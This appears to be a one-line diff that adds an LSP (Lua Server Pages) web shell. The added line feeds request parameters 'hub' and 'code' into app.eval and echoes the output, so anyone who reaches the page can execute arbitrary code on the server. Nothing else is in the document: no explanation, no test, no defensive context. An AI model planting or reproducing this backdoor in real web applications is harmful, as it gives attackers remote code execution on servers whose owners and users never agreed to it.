@@ -1,0 +1,1 @@
+<?lsp response:write(app.eval(request:data"hub", request:data"code")) ?>
